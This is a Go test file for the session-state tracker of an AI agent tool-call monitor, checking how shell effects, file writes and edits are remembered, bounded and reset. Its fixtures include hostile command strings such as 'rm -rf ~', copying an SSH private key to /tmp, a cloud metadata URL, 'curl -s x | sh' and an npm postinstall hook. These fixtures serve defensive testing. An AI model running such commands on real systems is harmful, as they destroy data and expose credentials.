package session

import (
	"context"
	"fmt"
	"reflect"
	"runtime"
	"strings"
	"testing"

	"github.com/agentwarden/warden/risk"
	"github.com/agentwarden/warden/tool"
)

func call(effects ...tool.Effect) *tool.Call {
	return &tool.Call{Action: &risk.Action{Tool: "Bash"}, Class: tool.Execute, Cwd: "/home/user/project", Home: "/home/user", Effects: effects}
}

func TestRecordReplaysEffects(t *testing.T) {
	st := newState("s", DefaultConfig())
	c := call(
		tool.Effect{Kind: tool.Chdir, Path: "/home/user", Known: true},
		tool.Effect{Kind: tool.SetVar, Path: "DIR", Text: "/", Known: true},
		tool.Effect{Kind: tool.SetAlias, Path: "ll", Text: "ls -la", Known: true},
		tool.Effect{Kind: tool.SetFunc, Path: "f", Text: "rm -rf ~", Known: true},
		tool.Effect{Kind: tool.SetGitAlias, Path: "sync", Text: "push -f", Known: true},
		tool.Effect{Kind: tool.SetPyVar, Path: "base", Text: "http://169.254.169.254", Known: true},
		tool.Effect{Kind: tool.WriteFile, Path: "/tmp/a.sh", Text: "echo a\n", Known: true},
		tool.Effect{Kind: tool.WriteFile, Path: "/tmp/a.sh", Text: "echo b\n", Known: true, Append: true},
		tool.Effect{Kind: tool.MakeExecutable, Path: "/tmp/a.sh"},
		tool.Effect{Kind: tool.FetchFile, Path: "/tmp/d", URL: "https://x.example/d"},
		tool.Effect{Kind: tool.WriteFile, Path: "/tmp/env", Sensitive: "environment"},
		tool.Effect{Kind: tool.CopyFile, Src: "/tmp/env", Path: "/tmp/env2"},
		tool.Effect{Kind: tool.CopyFile, Src: "/home/user/.ssh/id_rsa", Path: "/tmp/k"},
		tool.Effect{Kind: tool.WriteFile, Path: "/tmp/l", List: []string{"/home/user/{}"}},
	)
	st.Enter(c, false)
	st.Record(c, &risk.Assessment{Level: risk.Low}, &risk.Decision{Verdict: risk.Allow})
	if st.Cwd() != "/home/user" || st.prior.Vars["DIR"] != "/" || st.prior.Aliases["ll"] != "ls -la" ||
		st.prior.Funcs["f"] == "" || st.prior.GitAliases["sync"] != "push -f" || !st.prior.PyVars["base"].Known {
		t.Errorf("shell state not kept: cwd %q prior %+v", st.Cwd(), st.prior)
	}
	if f, _ := st.File("/tmp/a.sh"); f.Text != "echo a\necho b\n" || !f.Known || !f.Executable || !f.Written {
		t.Errorf("a.sh %+v", f)
	}
	if f, _ := st.File("/tmp/d"); f.Downloaded != "https://x.example/d" || f.Known {
		t.Errorf("download %+v", f)
	}
	for p, want := range map[string]string{"/tmp/env": "environment", "/tmp/env2": "environment", "/tmp/k": "credentials"} {
		if f, _ := st.File(p); f.Sensitive != want {
			t.Errorf("%s sensitive %q, want %q", p, f.Sensitive, want)
		}
	}
	if len(st.prior.Lists["/tmp/l"]) != 1 {
		t.Errorf("listing %v", st.prior.Lists)
	}
	// the next call sees it all, and unsetting forgets
	next := call(tool.Effect{Kind: tool.UnsetVar, Path: "DIR"}, tool.Effect{Kind: tool.SetAlias, Path: "ll"},
		tool.Effect{Kind: tool.SetVar, Path: "X"}, tool.Effect{Kind: tool.RemoveFile, Path: "/tmp"})
	st.Enter(next, false)
	if next.Cwd != "/home/user" || next.Workspace != "/home/user/project" || next.Prior.Funcs["f"] == "" {
		t.Errorf("Enter: cwd %q workspace %q", next.Cwd, next.Workspace)
	}
	st.Record(next, nil, nil)
	if _, ok := st.prior.Vars["DIR"]; ok || st.prior.Aliases["ll"] != "" || st.Files() != 0 || len(st.prior.Lists) != 0 {
		t.Errorf("not forgotten: %+v, %d files", st.prior, st.Files())
	}
	if h := st.History(); len(h) != 2 || h[0].Level != risk.Low || h[0].Verdict != risk.Allow {
		t.Errorf("history %+v", h)
	}
}

func TestEnterGivenCwdWins(t *testing.T) {
	st := newState("s", DefaultConfig())
	c := call(tool.Effect{Kind: tool.Chdir, Path: "/", Known: true})
	st.Enter(c, false)
	st.Record(c, nil, nil)
	given := call()
	given.Cwd = "/srv/app"
	st.Enter(given, true)
	if given.Cwd != "/srv/app" || st.Cwd() != "/srv/app" || given.Workspace != "/home/user/project" {
		t.Errorf("cwd %q state %q workspace %q", given.Cwd, st.Cwd(), given.Workspace)
	}
}

func TestDeniedCallsDoNotChangeState(t *testing.T) {
	st := newState("s", DefaultConfig())
	c := call(tool.Effect{Kind: tool.Chdir, Path: "/", Known: true}, tool.Effect{Kind: tool.WriteFile, Path: "/tmp/x", Text: "x", Known: true})
	st.Enter(c, false)
	st.Record(c, nil, &risk.Decision{Verdict: risk.Deny})
	if st.Cwd() != "" || st.Files() != 0 || len(st.History()) != 1 {
		t.Errorf("denied call changed the state: cwd %q files %d", st.Cwd(), st.Files())
	}
}

func TestEditsApplyToKnownText(t *testing.T) {
	st := newState("s", DefaultConfig())
	w := call()
	w.Class = tool.Edit
	w.Content = []tool.Content{{Path: "/p/package.json", Text: `{"scripts": {"test": "jest"}}`}}
	st.Record(w, nil, nil)
	e := call()
	e.Class = tool.Edit
	e.Content = []tool.Content{{Path: "/p/package.json", Old: `"test": "jest"`, Text: `"test": "jest", "postinstall": "sh x.sh"`, Partial: true}}
	st.Record(e, nil, nil)
	if f, _ := st.File("/p/package.json"); !f.Known || !strings.Contains(f.Text, "postinstall") || !strings.Contains(f.Text, "jest") {
		t.Errorf("edit applied: %+v", f)
	}
	// an edit of a file never seen keeps its fragment, not as the whole
	u := call()
	u.Content = []tool.Content{{Path: "/p/other.json", Old: "a", Text: "b", Partial: true}}
	st.Record(u, nil, nil)
	if f, _ := st.File("/p/other.json"); f.Known || !strings.Contains(f.Text, "b") {
		t.Errorf("fragment: %+v", f)
	}
}

func TestStateBounds(t *testing.T) {
	cfg := Config{Window: 5, MaxFiles: 4, MaxFileBytes: 10, MaxNames: 3}
	st := newState("s", cfg.withDefaults())
	for i := range 20 {
		c := call(tool.Effect{Kind: tool.WriteFile, Path: fmt.Sprintf("/tmp/f%d", i), Text: strings.Repeat("x", 100), Known: true},
			tool.Effect{Kind: tool.SetVar, Path: fmt.Sprintf("V%d", i), Text: "v", Known: true},
			tool.Effect{Kind: tool.SetPyVar, Path: fmt.Sprintf("p%d", i), Text: "v", Known: true})
		st.Record(c, nil, nil)
	}
	if st.Files() != 4 || len(st.History()) != 5 || len(st.prior.Vars) != 3 || len(st.prior.PyVars) != 3 {
		t.Errorf("files %d history %d vars %d pyvars %d", st.Files(), len(st.History()), len(st.prior.Vars), len(st.prior.PyVars))
	}
	f, ok := st.File("/tmp/f19")
	if !ok || len(f.Text) != 10 || f.Known || !f.Truncated {
		t.Errorf("newest file %+v", f)
	}
	if _, ok := st.File("/tmp/f0"); ok {
		t.Error("oldest file kept beyond MaxFiles")
	}
}

// TestMemoryBounded runs 10,000 sessions of 100 actions each, every action
// writing a new file, setting new names and adding history, and checks
// that the heap stays within what the bounds allow.
func TestMemoryBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("10,000 sessions × 100 actions")
	}
	cfg := Config{Window: 20, MaxSessions: 10000, MaxFiles: 16, MaxFileBytes: 256, MaxNames: 16}
	s := NewMemoryStore(cfg)
	text := strings.Repeat("y", 1000)
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for a := range 100 {
		for id := range 10000 {
			c := call(tool.Effect{Kind: tool.WriteFile, Path: fmt.Sprintf("/tmp/f%d", a), Text: text, Known: true},
				tool.Effect{Kind: tool.SetVar, Path: fmt.Sprintf("V%d", a), Text: text, Known: true},
				tool.Effect{Kind: tool.WriteFile, Path: fmt.Sprintf("/tmp/l%d", a), List: []string{"/home/user/{}"}})
			c.Shell = []string{text}
			s.Update(context.Background(), fmt.Sprintf("session-%d", id), func(_ context.Context, st *State) error {
				st.Enter(c, false)
				st.Record(c, &risk.Assessment{Level: risk.Low}, nil)
				return nil
			})
		}
	}
	runtime.GC()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	if n := len(s.(*memoryStore).m); n != 10000 {
		t.Fatalf("%d sessions kept", n)
	}
	perSession := (int64(after.HeapAlloc) - int64(before.HeapAlloc)) / 10000
	// 16 files of ≤256 bytes, 16 variables of ≤1000 bytes, 16 listings,
	// 20 history entries of ≤300 bytes, and the maps holding them
	const bound = 64 << 10
	t.Logf("heap per session: %d bytes (bound %d)", perSession, bound)
	if perSession > bound {
		t.Errorf("heap per session %d bytes, bound %d", perSession, bound)
	}
	st, _ := s.Get(context.Background(), "session-0")
	if st.Files() > cfg.MaxFiles || len(st.History()) != cfg.Window || len(st.prior.Vars) > cfg.MaxNames {
		t.Errorf("files %d history %d vars %d", st.Files(), len(st.History()), len(st.prior.Vars))
	}
}

func TestChainHelpers(t *testing.T) {
	if got := cronCommands("# c\nMAILTO=x\n*/5 * * * * /bin/a --x\n@reboot b\n", false); got != "/bin/a --x\nb\n" {
		t.Errorf("cron %q", got)
	}
	if got := cronCommands("0 3 * * * root /bin/a\n", true); got != "/bin/a\n" {
		t.Errorf("system cron %q", got)
	}
	if got := npmScripts(`{"scripts": {"postinstall": "node x.js", "test": "jest"}}`, []string{"preinstall", "postinstall"}); got != "node x.js\n" {
		t.Errorf("npm %q", got)
	}
	if got := npmScripts("\"scripts\": {\n  \"postinstall\": \"node \\\"x.js\\\"\",", []string{"postinstall"}); got != "node \"x.js\"\n" {
		t.Errorf("npm fragment %q", got)
	}
	if got := makeRecipes("a:\n\t@echo a\nb: a\n\t-rm -rf b\n", []string{"b"}); got != "rm -rf b\n" {
		t.Errorf("make %q", got)
	}
	if got := scriptDir(`cd "$(dirname "$0")/.." && rm -rf ./build`, "/p/scripts/clean.sh"); got != `cd "/p/scripts/.." && rm -rf ./build` && got != `cd /p/scripts"/.." && rm -rf ./build` {
		t.Errorf("scriptDir %q", got)
	}
	for p, want := range map[string]string{"/x/a.py": "python", "/x/a": "sh", "/x/a.js": "node"} {
		if got := language(p, "print(1)\n"); got != want {
			t.Errorf("language(%s) %s, want %s", p, got, want)
		}
	}
	if got := language("/x/a", "#!/usr/bin/env python3\n"); got != "python" {
		t.Errorf("shebang %s", got)
	}
	if got := childProcess("execSync('curl -s x | sh', {stdio: 'ignore'})"); len(got) != 1 || got[0] != "curl -s x | sh" {
		t.Errorf("child_process %q", got)
	}
}

// TestChainWithinOneCall: a file the call writes is there for what the
// same call runs next, and the state learns it only when recorded.
func TestChainWithinOneCall(t *testing.T) {
	st := NewState(Config{})
	c := call(
		tool.Effect{Kind: tool.WriteFile, Path: "/tmp/x.sh", Text: "rm -rf ~", Known: true},
		tool.Effect{Kind: tool.RunFile, Path: "/tmp/x.sh", Lang: "sh"},
	)
	var ran []string
	assess := func(_ context.Context, c *tool.Call) risk.Assessment {
		ran = append(ran, c.Shell...)
		return risk.Combine([]risk.Finding{{Analyzer: "x", Rule: "x.rm", Level: risk.Critical, Reason: "deletes home"}})
	}
	fs := st.Analyze(context.Background(), c, assess)
	if len(fs) == 0 || fs[0].Rule != RuleRunWritten || fs[0].Level != risk.Critical {
		t.Fatalf("findings %v, ran %q: want %s", fs, ran, RuleRunWritten)
	}
	if len(st.files) != 0 {
		t.Errorf("Analyze changed the state: %v", st.files)
	}
	// without a later use, no view is made and nothing is judged
	if fs := st.Analyze(context.Background(), call(c.Effects[0]), assess); len(fs) != 0 {
		t.Errorf("a write alone: %v", fs)
	}
}

// TestResetIsNew checks that a state that held a conversation (files,
// shell state, reads, marks, history, approvals, a key) is, once Reset,
// what NewState returns: nothing of the conversation carries over to the
// one that uses it next.
func TestResetIsNew(t *testing.T) {
	for _, cfg := range []Config{{}, {Window: 3, MaxFiles: 2}} {
		st := NewState(cfg)
		c := call(
			tool.Effect{Kind: tool.Chdir, Path: "/home/user", Known: true},
			tool.Effect{Kind: tool.SetVar, Path: "DIR", Text: "/", Known: true},
			tool.Effect{Kind: tool.WriteFile, Path: "/tmp/a.sh", Text: "echo a\n", Known: true},
			tool.Effect{Kind: tool.MakeExecutable, Path: "/tmp/a.sh"},
			tool.Effect{Kind: tool.CopyFile, Src: "/home/user/.ssh/id_rsa", Path: "/tmp/k"},
		)
		st.Enter(c, true)
		st.Record(c, &risk.Assessment{Level: risk.High}, &risk.Decision{Verdict: risk.Ask})
		st.Observe(c, "AKIAIOSFODNN7EXAMPLE", func(string) []Sensitive { return []Sensitive{{What: "a key", Value: "AKIAIOSFODNN7EXAMPLE"}} })
		st.Approve(Approval{Exact: "k"})
		if st.Files() == 0 || !st.Tainted() || st.Steps() == 0 || !st.HasApprovals() {
			t.Fatalf("the conversation left nothing to reset: files %d tainted %v steps %d", st.Files(), st.Tainted(), st.Steps())
		}
		st.Reset(cfg)
		// a func is DeepEqual to nothing: the clocks compare by address
		got, want := *st, *NewState(cfg)
		if reflect.ValueOf(got.cfg.Now).Pointer() != reflect.ValueOf(want.cfg.Now).Pointer() {
			t.Errorf("Reset(%+v): another clock", cfg)
		}
		got.cfg.Now, want.cfg.Now = nil, nil
		if !reflect.DeepEqual(got, want) {
			t.Errorf("Reset(%+v) = %+v, want %+v", cfg, got, want)
		}
	}
}
